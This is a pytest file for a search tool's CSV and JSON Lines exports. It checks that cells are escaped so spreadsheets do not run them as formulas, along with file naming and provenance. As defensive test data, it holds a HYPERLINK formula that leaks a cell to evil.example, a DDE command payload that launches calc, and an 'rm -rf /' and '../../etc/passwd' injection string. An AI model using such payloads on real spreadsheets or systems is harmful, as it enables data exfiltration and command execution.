"""Exports (``search/exports.py``) as a researcher gets them: from the web app's
``/export.csv`` and ``/export.jsonl`` and from ``kartoteka export``."""

import codecs
import datetime as dt
import json
import re

import pytest
from click.testing import CliRunner
from conftest import exported_csv, write_jsonl

from indexer import SearchRequest, build_index
from indexer.cli.main import cli
from indexer.search.exports import (
    DEFAULT_COLUMNS,
    OPTIONAL_COLUMNS,
    csv_cell,
    file_name,
)
from webapp import create_app

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
# Cells a spreadsheet would run, in every column that can hold text, and a pair
# of translations and an article whose regions are inferred, for the optional columns.
CORPUS = [
    {"id": "hyperlink", "lang": "en", "title": HYPERLINK, "date": "2019-05-01",
     "authors": ["@cmd"], "regions": ["georgia"], "topics": ["\tSUM(1,1)", "\r=1+1"],
     "url": "=cmd|' /C calc'!A0",
     "body": "+1 for the organizers: the Tbilisi count of the ballots took two days."},
    {"id": "minus", "lang": "en", "title": "-2 degrees on the day of the vote",
     "date": "2019-05-02", "authors": ["-Levan Beridze"], "regions": ["georgia"],
     "body": "-2 was the coldest reading in Tbilisi while people queued outside schools."},
    {"id": "tbilisi-en", "lang": "en", "title": "Tbilisi elects a mayor", "date": "2019-05-03",
     "authors": ["Nino Kapanadze"], "regions": ["georgia"], "translation": "tbilisi-ru",
     "body": "Tbilisi voters chose a mayor. The city's R&D <centre> hosted the debates."},
    {"id": "tbilisi-ru", "lang": "ru", "title": "Тбилиси выбрал мэра", "date": "2019-05-03",
     "authors": ["Нино Капанадзе"], "regions": ["georgia"], "translation": "tbilisi-en",
     "body": "Жители Тбилиси выбрали мэра города после долгих дебатов в университете."},
    {"id": "grain", "lang": "en", "title": "Grain for the winter", "date": "2018-11-20",
     "body": "Kazakhstan sold more grain abroad; farmers in Kazakhstan expect better prices."},
    {"id": "no-date", "lang": "en", "title": "A note from the editors",
     "regions": ["armenia"], "body": "How our reporters in Yerevan check what they are told."},
]
BY_ID = {record["id"]: record for record in CORPUS}


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    (root / "corpus").mkdir()
    write_jsonl(root / "corpus" / "articles.jsonl", CORPUS)
    build_index([root / "corpus"], root / "index", workers=1)
    return root / "index"


@pytest.fixture(scope="module")
def client(index_dir):
    return create_app({"TESTING": True, "INDEX_DIR": str(index_dir)}).test_client()


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith(codecs.BOM_UTF8)  # Excel then reads the Cyrillic as UTF-8
    comments, rows = exported_csv(data)
    assert comments[0] == "# kartoteka export"
    return rows


def jsonl_records(data: bytes) -> tuple[dict, list[dict]]:
    lines = [json.loads(line) for line in data.decode("utf-8").splitlines()]
    return lines[0]["provenance"], lines[1:]


def cli_export(index_dir, *args) -> bytes:
    result = CliRunner().invoke(cli, ["export", *args, "--index", str(index_dir)],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout_bytes


def test_hostile_cells_open_as_text_in_a_spreadsheet(client):
    rows = {r["id"]: r for r in csv_rows(client.get("/export.csv?columns=body").data)}
    hostile = rows["hyperlink"]
    assert hostile["title"] == "'" + HYPERLINK
    assert hostile["authors"] == "'@cmd"
    assert hostile["topics"] == "'\tSUM(1,1); \r=1+1"
    assert hostile["url"] == "'=cmd|' /C calc'!A0"
    assert hostile["body"] == "'" + BY_ID["hyperlink"]["body"]
    assert rows["minus"]["body"] == "'" + BY_ID["minus"]["body"]
    assert rows["minus"]["title"].startswith("'-2 degrees")
    assert rows["minus"]["authors"] == "'-Levan Beridze"
    assert [cell for row in rows.values() for cell in row.values()
            if cell.startswith(FORMULA_STARTS)] == []
    # Harmless cells are left alone.
    assert rows["grain"]["title"] == "Grain for the winter"


def test_json_lines_keep_the_values_as_they_are(client):
    _, records = jsonl_records(client.get("/export.jsonl?columns=body").data)
    hostile = next(r for r in records if r["id"] == "hyperlink")
    assert hostile["title"] == HYPERLINK and hostile["authors"] == ["@cmd"]
    assert hostile["topics"] == ["\tSUM(1,1)", "\r=1+1"]
    assert hostile["body"] == BY_ID["hyperlink"]["body"]


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_the_cli_writes_what_the_web_app_serves(client, index_dir, kind):
    web = client.get(f"/export.{kind}?q=Tbilisi&columns=body,score&columns=inferred_regions").data
    mine = cli_export(index_dir, "Tbilisi", "--format", kind, "--columns", "body,score",
                      "--columns", "inferred_regions")
    if kind == "csv":
        assert csv_rows(mine) == csv_rows(web)
    else:
        (web_provenance, web_rows), (cli_provenance, cli_rows) = jsonl_records(web), jsonl_records(mine)
        assert cli_rows == web_rows
        assert {**cli_provenance, "exported_at": None} == {**web_provenance, "exported_at": None}


def test_optional_columns_hold_the_text_the_translation_and_where_regions_came_from(client):
    provenance, records = jsonl_records(client.get(
        "/export.jsonl?columns=inferred_regions&columns=translation,body,snippet,score").data)
    assert list(records[0]) == [*DEFAULT_COLUMNS, "inferred_regions", "translation", "body",
                                "snippet", "score"]
    assert provenance["columns"] == list(records[0])
    rows = {r["id"]: r for r in records}
    assert {i: r["body"] for i, r in rows.items()} == {i: r["body"] for i, r in BY_ID.items()}
    assert rows["tbilisi-en"]["translation"] == "tbilisi-ru"
    assert rows["tbilisi-ru"]["translation"] == "tbilisi-en"
    assert rows["grain"]["translation"] is None
    assert rows["grain"]["inferred_regions"] is True and rows["grain"]["regions"] == ["kazakhstan"]
    assert not any(r["inferred_regions"] for i, r in rows.items() if i != "grain")
    # With no query words the hits are not scored: newest first.
    assert {r["score"] for r in records} == {None}

    csv_by_id = {r["id"]: r for r in csv_rows(client.get(
        "/export.csv?columns=translation,inferred_regions,score").data)}
    assert (csv_by_id["grain"]["inferred_regions"], csv_by_id["minus"]["inferred_regions"]) == (
        "true", "false")
    assert csv_by_id["tbilisi-en"]["translation"] == "tbilisi-ru"
    assert csv_by_id["grain"]["translation"] == csv_by_id["grain"]["score"] == ""


def test_snippets_are_plain_text_and_scores_follow_the_order(client):
    _, records = jsonl_records(client.get("/export.jsonl?q=Tbilisi&columns=snippet,score").data)
    assert len(records) >= 3
    scores = [r["score"] for r in records]
    assert all(isinstance(s, float) and s > 0 for s in scores)
    assert scores == sorted(scores, reverse=True)
    snippet = next(r["snippet"] for r in records if r["id"] == "tbilisi-en")
    assert snippet.startswith("Tbilisi voters") and "R&D <centre>" in snippet
    assert "<mark>" not in "".join(r["snippet"] for r in records)


def test_an_unknown_column_is_refused_with_the_valid_ones(client, index_dir):
    response = client.get("/export.csv?columns=body&columns=sentiment")
    assert response.status_code == 400
    message = response.get_json()["error"]
    assert "'sentiment'" in message and ", ".join(OPTIONAL_COLUMNS) in message
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--columns", "body,sentiment",
                                      "--index", str(index_dir)])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert "'sentiment'" in result.output and ", ".join(OPTIONAL_COLUMNS) in result.output
    assert result.stdout_bytes == b""  # nothing half-written


def test_the_file_name_carries_the_query_in_latin_letters_and_the_filters(client):
    response = client.get("/export.csv?q=выборы&region=Киргизия&from=2019&to=2020")
    assert re.fullmatch(r'attachment; filename="kartoteka-vybory-region-kyrgyzstan-2019-2020-'
                        r'\d{8}T\d{4}\.csv"', response.headers["Content-Disposition"])
    response = client.get("/export.jsonl?lang=ru&undated=1&author=Нино Капанадзе")
    assert re.fullmatch(r'attachment; filename="kartoteka-all-author-Nino-Kapanadze-lang-ru-'
                        r'undated-\d{8}T\d{4}\.jsonl"', response.headers["Content-Disposition"])


@pytest.mark.parametrize("query", [
    "очень длинный запрос о выборах мэра в Тбилиси, Ереване, Баку и ещё в сорока городах",
    '"; rm -rf / #" ../../etc/passwd', "Tbilisi OR Yerevan", "ქართული არჩევნები"])
def test_file_names_stay_short_and_safe(query):
    request = SearchRequest(query, regions=("georgia", "armenia"), authors=("@cmd; drop",))
    name = file_name(request, "csv", dt.datetime(2026, 12, 1, 10, 15, tzinfo=dt.UTC))
    assert re.fullmatch(r"kartoteka-[A-Za-z0-9]+(-[A-Za-z0-9]+)*-20261201T1015\.csv", name), name
    assert len(name) <= 130


def test_provenance_says_which_order_was_really_used(client, index_dir):
    provenance, records = jsonl_records(client.get("/export.jsonl").data)
    assert provenance["sort"] == "newest"  # "relevance" with no query words
    dates = [r["date"] for r in records]
    assert dates == sorted(dates[:-1], reverse=True) + [None]  # undated last
    header = client.get("/export.csv?sort=relevance").headers["X-Kartoteka-Provenance"]
    assert json.loads(header)["sort"] == "newest"
    assert jsonl_records(client.get("/export.jsonl?q=Tbilisi").data)[0]["sort"] == "relevance"
    assert jsonl_records(client.get("/export.jsonl?q=Tbilisi&sort=oldest").data)[0]["sort"] == \
        "oldest"
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--index", str(index_dir)])
    assert result.stderr == f"Exported {len(CORPUS)} articles (newest first)\n"


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\r=x", "'\r=x"), ("a=b", "a=b"), ("", ""), (None, ""),
    (["@a", "b"], "'@a; b"), (["a", "=b"], "a; =b"), (True, "true"), (1.5, "1.5"),
])
def test_a_cell_never_starts_a_formula(value, cell):
    assert csv_cell(value) == cell


def test_snippets_and_scores_are_those_of_the_search_pages(client):
    """An export with snippets and scores gives each hit as the search gives it, in
    the same order (made from one ordering of every hit, not page after page)."""
    from indexer.search.exports import _plain

    query = "q=Tbilisi+OR+election+OR+выборы"
    _, records = jsonl_records(client.get(f"/export.jsonl?{query}&columns=snippet,score").data)
    hits = client.get(f"/api/search?{query}&per_page=100").get_json()["hits"]
    assert len(records) == len(hits) > 3
    assert [(r["id"], r["score"], r["snippet"]) for r in records] == [
        (h["id"], h["score"], _plain(h["snippet"])) for h in hits]
